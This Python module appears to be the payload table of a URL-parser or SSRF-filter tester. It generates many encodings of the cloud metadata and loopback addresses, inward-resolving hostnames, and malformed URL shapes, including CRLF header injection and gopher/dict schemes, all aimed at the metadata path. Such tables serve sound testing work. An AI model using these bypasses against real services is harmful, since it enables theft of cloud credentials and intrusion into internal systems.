"""The evasions, as data: spellings of a host and shapes of a URL. A table: it runs long on purpose.

A spelling turns an IPv4 address into hosts that may mean it. A shape puts a host that leads inside, and one that does
not, into a URL. Each has the title of its row on the page. Fails on nothing; whether any client is taken in by one is
what the oracle finds out.
"""

import ipaddress
import re
from collections.abc import Callable
from dataclasses import dataclass

METADATA, LOOPBACK = "169.254.169.254", "127.0.0.1"
HARMLESS = "www.example.com"
PATH = "/latest/meta-data/"
PLACEHOLDER = re.compile("[§¤¶]")


@dataclass(frozen=True)
class Row:
    group: str
    title: str
    #: URLs of the row, from its target; for a spelling, hosts.
    build: Callable


def _octets(address):
    return [int(part) for part in address.split(".")]


def _number(address):
    return int(ipaddress.IPv4Address(address))


def _each(address, form):
    return ".".join(form.format(octet) for octet in _octets(address))


def _two(address):
    number = _number(address)
    return [f"{number >> 24}.{number & 0xFFFFFF}", f"0x{number >> 24:x}.0x{number & 0xFFFFFF:x}"]


def _three(address):
    number = _number(address)
    return [f"{number >> 24}.{number >> 16 & 0xFF}.{number & 0xFFFF}"]


def _mixed(address):
    a, b, c, d = _octets(address)
    return [
        f"0x{a:x}.{b}.0{c:o}.{d}",
        f"0{a:o}.0x{b:x}.{c}.{d}",
        f"{a}.{b}.0x{c << 8 | d:x}",
        f"0x{a:x}.{b}.{c}.0{d:o}",
    ]


def _digits(address, zero, dot="."):
    return "".join(dot if c == "." else chr(zero + int(c)) for c in address)


def _circled(address):
    return "".join("." if c == "." else "⓪" if c == "0" else chr(0x245F + int(c)) for c in address)


def _superscript(address):
    return address.translate(str.maketrans("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹"))


def _percent(text, every=True):
    return "".join(f"%{ord(c):02x}" if every or not c.isalnum() else c for c in text)


def _hex_pair(address):
    number = _number(address)
    return f"{number >> 16:x}:{number & 0xFFFF:x}"


def _teredo(address):
    number = _number(address) ^ 0xFFFFFFFF
    return f"[2001:0:c633:6407:0:ffff:{number >> 16:x}:{number & 0xFFFF:x}]"


def _nat64_48(address):
    a, b, c, d = _octets(address)
    return f"[64:ff9b:1:{a:02x}{b:02x}:{c:04x}:{d:02x}00::]"


_V4 = {
    "dotted": lambda a: [a],
    "one decimal number": lambda a: [str(_number(a)), f"{_number(a):010}"],
    "one hexadecimal number": lambda a: [f"0x{_number(a):x}", f"0X{_number(a):X}", f"0x0000{_number(a):x}"],
    "hexadecimal, dotted": lambda a: [_each(a, "0x{:x}"), _each(a, "0X{:02X}"), _each(a, "0x{:08x}")],
    "octal, dotted": lambda a: [_each(a, "0{:o}")],
    "octal, padded": lambda a: [_each(a, "{:07o}"), _each(a, "0{:03o}")],
    "one octal number": lambda a: [f"0{_number(a):o}", f"000{_number(a):o}"],
    "decimal with leading zeros": lambda a: [_each(a, "{:03}"), _each(a, "{:04}")],
    "mixed bases": _mixed,
    "two parts": _two,
    "three parts": _three,
    "trailing dot": lambda a: [f"{a}."],
    "number with a trailing dot": lambda a: [f"{_number(a)}.", f"0x{_number(a):x}."],
    "two trailing dots": lambda a: [f"{a}.."],
    "leading dot, double dot": lambda a: [f".{a}", a.replace(".", "..", 1)],
    "octets beyond 255": lambda a: [".".join(str(octet + 256) for octet in _octets(a))],
    "number beyond 32 bits": lambda a: [
        str(_number(a) + (1 << 32)),
        f"0x1{_number(a):08x}",
        str(_number(a) + (1 << 64)),
    ],
    "negative number": lambda a: [str(_number(a) - (1 << 32))],
    "sign or exponent": lambda a: [f"+{_number(a)}", f"{_number(a)}e0"],
    "invalid octal digit": lambda a: [
        f"{a.rpartition('.')[0]}.0{_octets(a)[3]:03}",
        f"{a.rpartition('.')[0]}.08",
    ],
    "five parts": lambda a: [f"{a}.0", f"0.{a}"],
    "bare hexadecimal": lambda a: [f"{_number(a):08x}", f"0{_number(a):x}h"],
    "in brackets": lambda a: [f"[{a}]", f"[{_number(a)}]"],
    "binary": lambda a: [f"0b{_number(a):b}"],
}
_V6 = {
    "mapped, dotted": lambda a: [f"[::ffff:{a}]", f"[::FFFF:{a}]"],
    "mapped, hexadecimal": lambda a: [f"[::ffff:{_hex_pair(a)}]"],
    "mapped, written out": lambda a: [
        f"[0:0:0:0:0:ffff:{a}]",
        f"[0000:0000:0000:0000:0000:ffff:{_hex_pair(a)}]",
    ],
    "compatible": lambda a: [f"[::{a}]", f"[::{_hex_pair(a)}]"],
    "translated (SIIT)": lambda a: [f"[::ffff:0:{a}]", f"[::ffff:0:{_hex_pair(a)}]"],
    "NAT64, well-known prefix": lambda a: [f"[64:ff9b::{a}]", f"[64:ff9b::{_hex_pair(a)}]"],
    "NAT64, local prefix": lambda a: [f"[64:ff9b:1::{_hex_pair(a)}]", _nat64_48(a)],
    "6to4": lambda a: [f"[2002:{_hex_pair(a)}::]", f"[2002:{_hex_pair(a)}::1]"],
    "Teredo": lambda a: [_teredo(a), f"[2001:0:{_hex_pair(a)}::1]"],
    "ISATAP": lambda a: [f"[2001:db8::5efe:{_hex_pair(a)}]", f"[2001:db8::200:5efe:{_hex_pair(a)}]"],
    "mapped, zone": lambda a: [f"[::ffff:{a}%lo]", f"[::ffff:{a}%25lo]"],
    "mapped, no brackets": lambda a: [f"::ffff:{a}"],
    "mapped, ligature or fullwidth": lambda a: [f"[::ﬀﬀ:{_hex_pair(a)}]", f"[::ｆｆｆｆ:{a}]"],
    "IPvFuture": lambda a: [f"[v1.{a}]", f"[v6.::ffff:{a}]"],
    "mapped, percent-encoded": lambda a: [f"[%3a%3affff%3a{a}]", f"%5b::ffff:{a}%5d"],
    "mapped, text after the bracket": lambda a: [
        f"[::ffff:{a}].",
        f"[::ffff:{a}]x",
        f"[::ffff:{a}].{HARMLESS}",
    ],
}
_UNICODE = {
    "circled digits": lambda a: [_circled(a)],
    "fullwidth digits": lambda a: [_digits(a, 0xFF10)],
    "mathematical digits": lambda a: [_digits(a, 0x1D7CE), _digits(a, 0x1D7F6)],
    "superscript digits": lambda a: [_superscript(a)],
    "Arabic or Devanagari digits": lambda a: [_digits(a, 0x0660), _digits(a, 0x0966)],
    "ideographic full stop": lambda a: [a.replace(".", "。")],
    "halfwidth or fullwidth full stop": lambda a: [a.replace(".", "｡"), a.replace(".", "．")],
    "one dot leader, middle dot": lambda a: [a.replace(".", "․"), a.replace(".", "·")],
    "soft hyphen in an address": lambda a: [a.replace(".", ".\u00ad", 1), "\u00ad" + a],
    "zero width in an address": lambda a: [
        a.replace(".", ".\u200b", 1),
        a + "\u200d",
        "\ufeff" + a,
        a.replace(".", "\u2060.", 1),
    ],
    "percent-encoded dot": lambda a: [a.replace(".", "%2e"), a.replace(".", "%2E", 1)],
    "percent-encoded whole": lambda a: [_percent(a)],
    "percent-encoded number": lambda a: [_percent(str(_number(a)))],
    "percent-encoded twice": lambda a: [a.replace(".", "%252e"), _percent(_percent(a, False), False)],
    "percent-encoded Unicode": lambda a: [a.replace(".", "%E3%80%82"), a.replace(".", "%ef%bc%8e")],
    "overlong UTF-8 for the dot": lambda a: [a.replace(".", "%c0%ae")],
    "percent without digits": lambda a: [a + "%", a.replace(".", "%u002e"), a + "%2"],
}
SPELLINGS = (
    [Row("IPv4", title, build) for title, build in _V4.items()]
    + [Row("IPv6", title, build) for title, build in _V6.items()]
    + [Row("Unicode and percent", title, build) for title, build in _UNICODE.items()]
)

#: Hosts that have no IPv4 address to vary.
HOSTS = {
    "IPv4": {
        "zero, any address": ["0", "0.0.0.0", "0x0", "00000", "0."],
        "other loopback addresses": ["127.0.0.2", "127.127.127.127", "127.255.255.254"],
        "neighbours of the metadata service": ["169.254.169.253", "169.254.170.2", "169.254.170.23"],
        "metadata services of other clouds": [
            "168.63.129.16",
            "100.100.100.200",
            "192.0.0.192",
            "169.254.42.42",
        ],
    },
    "IPv6": {
        "loopback": ["[::1]", "[0:0:0:0:0:0:0:1]", "[0000::0001]"],
        "any address": ["[::]", "[0::0]"],
        "EC2 and other clouds": [
            "[fd00:ec2::254]",
            "[FD00:0EC2:0:0::254]",
            "[fd20:ce::254]",
            "[fd00:42::42]",
        ],
        "zone": ["[::1%lo]", "[::1%25lo]", "[::1%1]", "[fe80::a9fe:a9fe%25lo]", "[fe80::a9fe:a9fe%lo]"],
        "no brackets": ["::1", "::1:80"],
    },
    "Names": {
        "no host at all": ["", ":80", "@", "a@", ":@:80", "[]", "%20"],
        "localhost": ["localhost", "LocalHost"],
        "localhost with a dot": ["localhost.", "localhost.."],
        "below localhost": ["a.localhost", "localhost.localdomain"],
        "other names of the machine": ["ip6-localhost", "ip6-loopback"],
        "wildcard service, dotted": ["127.0.0.1.nip.io", "169.254.169.254.sslip.io", "a.127.0.0.1.nip.io"],
        "wildcard service, dashed": ["127-0-0-1.nip.io", "www-169-254-169-254.sslip.io", "--1.sslip.io"],
        "wildcard service, hexadecimal": ["7f000001.nip.io", "a9fea9fe.nip.io"],
        "always loopback": ["localtest.me", "a.lvh.me", "vcap.me", "lacolhost.com"],
        "rebinding service": ["7f000001.c6336407.rbndr.us", "make-127-0-0-1-rebind-198-51-100-7-rr.1u.ms"],
        "metadata names": ["metadata.google.internal", "metadata.goog", "instance-data.ec2.internal"],
        "metadata names, case and dot": ["METADATA.google.INTERNAL", "metadata.google.internal."],
        "metadata by search domain": ["metadata", "instance-data", "metadata."],
        "metadata names of other clouds": [
            "metadata.tencentyun.com",
            "api.metadata.cloud.ibm.com",
            "metadata.packet.net",
        ],
    },
    "Unicode and percent": {
        "circled letters": ["ⓛⓞⓒⓐⓛⓗⓞⓢⓣ", "ⓜetadata.google.internal"],
        "fullwidth letters": ["ｌｏｃａｌｈｏｓｔ", "ｍetadata.goog"],
        "soft hyphen in a name": ["local\u00adhost", "meta\u00addata.google.internal"],
        "zero width in a name": ["local\u200dhost", "local\u200bhost", "local\u2060host", "local\ufeffhost"],
        "invisible marks in a name": ["local\u034fhost", "local\ufe0fhost", "local\u180dhost"],
        "long s, ligatures": ["localhoſt", "localhoﬆ", "metadata.goog。"],
        "Punycode of plain letters": ["xn--localhost-", "xn--localhost-.", "xn--127-0-0-1-.nip.io"],
        "percent in a name": ["loc%61lhost", "%6c%6f%63%61%6c%68%6f%73%74", "metadata%2egoogle%2einternal"],
        "percent-encoded Unicode name": [
            "%E2%93%9B%E2%93%9E%E2%93%92%E2%93%90%E2%93%9B%E2%93%97%E2%93%9E%E2%93%A2%E2%93%A3"
        ],
    },
}


def _shape(*patterns):
    """Builds URLs; § stands for the host inside, ¤ for the harmless one, ¶ for the path."""

    def build(inside, harmless=HARMLESS, path=PATH):
        words = {"§": inside, "¤": harmless, "¶": path}
        return [PLACEHOLDER.sub(lambda found: words[found[0]], pattern) for pattern in patterns]

    return build


_SHAPES = {
    "User info": {
        "name before @": _shape("http://¤@§¶", "http://a:b@§¶"),
        "port before @": _shape("http://¤:80@§¶", "http://¤:80:80@§¶"),
        "inside before @": _shape("http://§@¤¶", "http://§:80@¤¶", "http://§:@¤¶"),
        "semicolon": _shape("http://¤;@§¶", "http://§;@¤¶"),
        "ampersand": _shape("http://¤&@§¶", "http://§&@¤¶", "http://¤=@§¶"),
        "bracket before @": _shape("http://¤[@§¶", "http://§[@¤¶", "http://¤]@§¶", "http://[¤]@§¶"),
        "two @": _shape("http://¤@¤@§¶", "http://§@¤@¤¶", "http://¤@§@¤¶"),
        "backslash before @": _shape("http://§\\@¤¶", "http://§:80\\@¤¶", "http://§\\@@¤¶"),
        "backslash before @, other order": _shape("http://¤\\@§¶", "http://¤:80\\@§¶"),
        "slash before @": _shape("http://¤/@§¶", "http://§/@¤¶", "http://§/¤@¤¶"),
        "hash before @": _shape("http://§#@¤¶", "http://§:80#@¤¶"),
        "hash before @, other order": _shape("http://¤#@§¶", "http://¤:80#@§¶"),
        "query before @": _shape("http://§?@¤¶", "http://§?¤@¤¶"),
        "query before @, other order": _shape("http://¤?@§¶", "http://¤?.§@§¶"),
        "encoded delimiter before @": _shape(
            "http://¤%2f@§¶", "http://§%2f@¤¶", "http://§%23@¤¶", "http://§%2523@¤¶", "http://¤%40§¶"
        ),
        "fullwidth slash before @": _shape("http://¤／@§¶", "http://§／@¤¶"),
        "fullwidth hash or query before @": _shape("http://¤＃@§¶", "http://§＃@¤¶", "http://§？@¤¶"),
        "fullwidth @": _shape("http://¤＠§¶", "http://§＠¤¶"),
        "space and ampersand": _shape("http://¤ &@§# @¤¶", "http://§ &@¤# @¤¶", "http://¤ &@¤# @§¶"),
        "space before @": _shape("http://¤ @§¶", "http://§ @¤¶"),
        "tab or line feed before @": _shape("http://§\t@¤¶", "http://¤\n@§¶", "http://§\n@¤¶"),
        "double hash": _shape("http://¤##@§¶", "http://§##@¤¶"),
    },
    "Structure": {
        "no slash": _shape("http:§¶"),
        "one slash": _shape("http:/§¶"),
        "three slashes": _shape("http:///§¶"),
        "many slashes": _shape("http:////§¶", "http://///////§¶"),
        "backslashes": _shape("http:\\\\§¶", "http:\\\\§\\"),
        "slash and backslash": _shape("http:/\\§¶", "http:\\/§¶", "http:\\§¶"),
        "no scheme": _shape("§¶", "§:80¶"),
        "no scheme, slashes": _shape("//§¶", "///§¶", "\\\\§¶"),
        "no scheme, user info": _shape("¤@§¶", "a:b@§¶"),
        "colon without scheme": _shape("://§¶", ":§¶"),
        "upper-case scheme": _shape("HTTP://§¶", "hTtP://§¶"),
        "two schemes": _shape("http://http://§¶", "http:http://§¶", "httphttp://§¶"),
        "backslash after the host": _shape("http://§\\¶", "http://§\\.¤¶", "http://¤\\.§¶"),
        "query or fragment after the host": _shape(
            "http://§?¤", "http://§#¤", "http://§#.¤¶", "http://§?.¤¶"
        ),
        "encoded delimiter after the host": _shape(
            "http://§%2f.¤¶", "http://§%23.¤¶", "http://§%3f.¤¶", "http://§%5c.¤¶", "http://§%40¤¶"
        ),
        "fullwidth delimiter after the host": _shape(
            "http://§／.¤¶", "http://§＃.¤¶", "http://§？.¤¶", "http://§：80¶"
        ),
        "account-of signs": _shape("http://§℀.¤¶", "http://§℁.¤¶", "http://§℅.¤¶"),
        "semicolon or comma after the host": _shape(
            "http://§;.¤¶", "http://§;¤¶", "http://§,¤¶", "http://¤,§¶", "http://§;¶"
        ),
        "bar, caret, back-tick, quote": _shape(
            "http://§|.¤¶", "http://§^.¤¶", "http://§`.¤¶", 'http://§"¶', "http://§'¶"
        ),
        "braces (globbing)": _shape("http://{§}¶", "http://{§,¤}¶", "http://{¤,§}¶"),
        "angle brackets": _shape("<http://§¶>", "http://<§>¶", "<URL:http://§¶>"),
        "host list": _shape(
            "http://§+¤¶", "http://§!¤¶", "http://§*¤¶", "http://§~¤¶", "http://§$¤¶", "http://§(¤)¶"
        ),
        "inside as first label": _shape("http://§.¤¶"),
        "path below another": _shape("http://§/../¤¶", "http://§/.//¤¶", "http://§/%2e%2e/"),
        "without a path": _shape("http://§", "http://§?", "http://§#", "http://§:80"),
        "quoted-printable, dashes": _shape(
            "http-3A-2F-2F§-2F", "http=3A=2F=2F§", "http%3A%2F%2F§¶", "http%3a//§¶"
        ),
    },
    "Ports": {
        "plain": _shape("http://§:80¶", "http://§:8080¶"),
        "empty": _shape("http://§:¶"),
        "leading zeros": _shape("http://§:0080¶", "http://§:00000000000000000080¶"),
        "beyond 65535": _shape("http://§:65616¶", "http://§:131152¶", "http://§:4294967376¶"),
        "sign": _shape("http://§:+80¶", "http://§:-80¶"),
        "spaces": _shape("http://§: 80¶", "http://§:80 ¶", "http://§ :80¶", "http://§:\t80¶"),
        "text after": _shape("http://§:80abc¶", "http://§:80.0¶", "http://§:80,¶", "http://§:0x50¶"),
        "other digits": _shape("http://§:８０¶", "http://§:⑧⓪¶", "http://§:٨٠¶"),
        "two ports": _shape("http://§:80:80¶", "http://§:80:8080¶", "http://§::80¶"),
        "another host as port": _shape("http://§:¤¶", "http://¤:§/", "http://§:80;¤¶"),
        "encoded colon": _shape("http://§%3a80¶", "http://§%3A80:80¶"),
        "zero": _shape("http://§:0¶"),
    },
    "Control characters": {
        "tab in the host": lambda i, *_: [
            f"http://{i[:2]}\t{i[2:]}{PATH}",
            f"http://\t{i}{PATH}",
            f"http://{i}\t{PATH}",
        ],
        "line feed in the host": lambda i, *_: [
            f"http://{i[:2]}\n{i[2:]}{PATH}",
            f"http://{i}\n{PATH}",
            f"http://{i}\n.{HARMLESS}/",
        ],
        "carriage return in the host": lambda i, *_: [
            f"http://{i[:2]}\r{i[2:]}{PATH}",
            f"http://{i}\r\n{PATH}",
        ],
        "NUL after the host": _shape("http://§\0.¤¶", "http://§\0¶", "http://§\0@¤¶"),
        "encoded NUL": _shape("http://§%00.¤¶", "http://§%00¶", "http://§%00@¤¶"),
        "space after the host": _shape(
            "http://§ .¤¶", "http://§ ¶", "http://§%20.¤¶", "http://§%20¶", "http://§+¶"
        ),
        "space before the host": _shape("http:// §¶", "http://%20§¶"),
        "encoded control character": _shape(
            "http://§%0a¶", "http://§%0d%0a¶", "http://§%09¶", "http://%0a§¶", "http://§%0a.¤¶"
        ),
        "leading space": _shape(" http://§¶", "\thttp://§¶", "\u00a0http://§¶", "\u3000http://§¶"),
        "leading control character": _shape("\x01http://§¶", "\x1fhttp://§¶", "\x0bhttp://§¶"),
        "leading invisible": _shape("\ufeffhttp://§¶", "\u200bhttp://§¶"),
        "tab in the scheme": _shape("ht\ttp://§¶", "http\t://§¶", "http:\t//§¶", "http:/\t/§¶"),
        "line feed in the scheme": _shape("ht\ntp://§¶", "\nhttp://§¶", "http:\n//§¶"),
        "trailing space or line feed": _shape("http://§ ", "http://§¶\n", "http://§\x01"),
        "line separators": _shape("http://§\u2028¶", "http://§\u0085¶", "http://§\x0b¶", "http://§\x0c¶"),
        "delete, other controls": _shape("http://§\x7f¶", "http://§\x08¶", "http://\x1f§¶"),
        "line feed in the path": _shape("http://§¶\r\nX: y", "http://¤¶\r\nHost: §", "http://§¶%0d%0aX: y"),
        "bidirectional marks": _shape("http://\u202e§¶", "http://§\u200e¶"),
    },
    "Schemes": {
        "https": _shape("https://§¶", "https://§:80¶", "https:§¶"),
        "ftp": _shape("ftp://§¶", "ftp://§:80¶"),
        "gopher, dict, telnet": _shape("gopher://§:80/_a", "dict://§:80/a", "telnet://§:80"),
        "ldap, mqtt, rtsp": _shape("ldap://§:80/", "mqtt://§:80/a", "rtsp://§:80/a"),
        "mail": _shape("imap://§:80/", "pop3://§:80/", "smtp://§:80/"),
        "tftp, smb": _shape("tftp://§/a", "smb://§/a/b"),
        "ws": _shape("ws://§¶", "wss://§¶"),
        "jar": _shape("jar:http://§¶!/", "jar:http://§!/a"),
        "url:": _shape("url:http://§¶", "URL:http://§¶"),
        "view-source, feed, blob": _shape("view-source:http://§¶", "feed:http://§¶", "blob:http://§¶"),
        "file with a host": _shape("file://§/etc/hostname", "netdoc://§/a"),
        "unknown": _shape("foo://§¶", "httpx://§¶", "http+unix://§¶", "0://¤:80;http://§:80/"),
        "unquoted wrapper": _shape("url('http://§¶')", "'http://§¶'", '"http://§¶"', "(http://§¶)"),
    },
}
SHAPES = [Row(group, title, build) for group, rows in _SHAPES.items() for title, build in rows.items()]
PLAIN = _shape("http://§¶")


def rows():
    """Every row of the page with its URLs as text: `(group, title, [URL, …])`."""
    found = []
    for row in SPELLINGS:
        hosts = [host for target in (METADATA, LOOPBACK) for host in row.build(target)]
        found.append((row.group, row.title, [url for host in dict.fromkeys(hosts) for url in PLAIN(host)]))
    for group, titles in HOSTS.items():
        for title, hosts in titles.items():
            found.append((group, title, [url for host in hosts for url in PLAIN(host)]))
    for row in SHAPES:
        urls = [url for target in (METADATA, LOOPBACK, "localhost") for url in row.build(target)]
        found.append((row.group, row.title, list(dict.fromkeys(urls))))
    return found
